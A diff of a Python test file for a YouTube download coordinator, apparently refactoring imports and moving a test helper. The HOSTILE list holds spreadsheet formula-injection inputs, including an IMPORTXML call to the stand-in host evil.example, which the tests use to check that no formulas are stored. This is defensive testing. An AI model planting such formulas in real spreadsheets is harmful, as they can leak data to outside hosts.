@@ -3,14 +3,12 @@
 from __future__ import annotations
 
 from collections.abc import Iterator
-from dataclasses import replace
 
 import pytest
 
-from tests.sheet import DEAD, VIDEOS, SheetDesk, sheet_desk, video_url
-from youtube_download_coordinator.models import Done, Failure, Lease, Verdict, VideoTask
+from tests.sheet import DEAD, VIDEOS, SheetDesk, a_video, sheet_desk, video_url
+from youtube_download_coordinator.models import Done, Failure, Verdict
 from youtube_download_coordinator.store import VIDEO_TASKS
-from youtube_download_coordinator.urls import video_target
 
 HOSTILE = [
     '=IMPORTXML("https://evil.example/","//a")', "+1", "-2+3", "@SUM(A1)", "0012345", "1e9", "TRUE", "1/2", "2026-11-22",
@@ -23,11 +21,6 @@ def desk() -> Iterator[SheetDesk]:
     with sheet_desk() as here:
         yield here
         assert here.book.formulas() == []
-
-
-def a_video(number: int, **fields: str) -> VideoTask:
-    base = VideoTask(url=video_url(number), key=video_target(video_url(number)).key, lease=Lease(nonce=""))
-    return replace(base, **fields)  # type: ignore[arg-type]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
